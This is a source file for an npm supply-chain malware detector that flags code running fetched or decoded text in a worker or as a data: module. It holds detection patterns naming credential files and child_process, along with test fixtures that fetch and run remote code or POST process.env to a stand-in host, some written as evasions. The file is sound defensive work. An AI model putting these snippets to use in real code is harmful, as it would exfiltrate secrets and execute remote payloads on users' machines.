import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { isBundle, sendingDeeds } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { inComment, sight } from "./_sight.ts";

const RUNS = ["new worker(", "import(", "createobjecturl"] as const;
/** A worker whose program is a text, or a module whose address is its text. */
const FROM_TEXT =
  /\bnew[ \t]{1,3}Worker[ \t]{0,3}\((?:[\s\S]{0,1500}?\beval[ \t]{0,3}:[ \t]{0,3}(?:true|!0)|[^;\n]{0,200}(?:createObjectURL|["'`]data:))|\bimport[ \t]{0,3}\([^;\n]{0,40}["'`]data:(?:text|application)\/javascript/g;
/** What a worker's text does that no text of a program's own worker does. */
const ACTS =
  /process\.env|child_process|https?\.(?:get|request)\(|\bfetch\(|net\.connect|\.ssh|\.npmrc|eval\(|Buffer\.from\([^)]{1,200}["'`]base64/;
const NEAR = 1_500;
const NEAR_IN_BUNDLE = 400;
const MOST_TRIES = 40;

export const runsTextInWorker: Detector = {
  id: "runs-text-in-worker",
  title: "Runs text that it fetched or decoded in a worker or as a data module",
  severity: "critical",
  ecosystems: ["npm"],
  points: 5.4,
  class: "threat",
  group: "download-and-run",
  why: `\`new Worker(text, { eval: true })\`, a worker made of a \`Blob\` and \`import("data:…")\` run text as code without the words eval or Function. Here the
text comes from a server or is decoded first, or is a constant that takes the environment or starts programs: a payload.

Bundlers put the program of a worker into a text of their own, which computes and neither asks a server nor reads what the machine keeps.`,
  literals: RUNS,
  *detect(tree) {
    for (const file of scriptsWith(tree, RUNS)) {
      const within = isBundle(file) ? NEAR_IN_BUNDLE : NEAR;
      let tries = 0;
      for (const match of file.text.matchAll(FROM_TEXT)) {
        if (++tries > MOST_TRIES) break;
        const how = originOf(file, match.index, match[0], within);
        if (how === undefined || inComment(file, match.index)) continue;
        yield sight(file, match.index, `a worker or module runs ${how}`, { share: isBundle(file) ? 0.6 : 1 });
        break;
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { Worker } = require('worker_threads');\nfetch('https://example.invalid/x').then((r) => r.text()).then((c) => new Worker(c, { eval: true }));\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { Worker } = require('worker_threads');\nnew Worker(\"fetch('https://example.invalid', { method: 'POST', body: JSON.stringify(process.env) })\", { eval: true });\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { Worker } = require('worker_threads');\nconst code = `const { parentPort } = require('worker_threads');\nparentPort.on('message', (m) => parentPort.postMessage(work(m)));`;\nnew Worker(code, { eval: true });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js": "new Worker(new URL('./worker.js', import.meta.url), { type: 'module' });\nfetch('/data');\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const source = 'onmessage = (e) => postMessage(e.data * 2)';\nexport const worker = new Worker(URL.createObjectURL(new Blob([source])));\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const c = await (await fetch('https://example.invalid/x')).text();\nawait import('data:text/javascript;base64,' + btoa(c));\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { Worker } = require('worker_threads');\nnew Worker(Buffer.from(P, 'base64').toString(), { eval: true });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "fetch('https://example.invalid/x').then((r) => r.text()).then((c) => new Worker(URL.createObjectURL(new Blob([c]))));\n",
        },
      },
    ],
  },
};

/** Where the text that runs comes from, when that is a server or a decoder, or what it does. */
function originOf(file: SourceFile, offset: number, call: string, within: number): string | undefined {
  if (/^new/.test(call) && !/import\(/.test(call)) {
    const program = call.slice(call.indexOf("(") + 1).replace(/,[^,]{0,200}$/, "");
    const acts = /["'`]/.test(program) ? ACTS.exec(program)?.[0] : undefined;
    if (acts !== undefined) return `a text with ${acts}`;
  }
  const before = ({ offset: at }: Deed) => at <= offset + call.length && offset - at <= within;
  const fetched = deedsOf(file, "http", "socket").find(before);
  if (fetched !== undefined && sendingDeeds(file).every((deed) => deed !== fetched))
    return `what ${fetched.what} fetches`;
  return undefined;
}
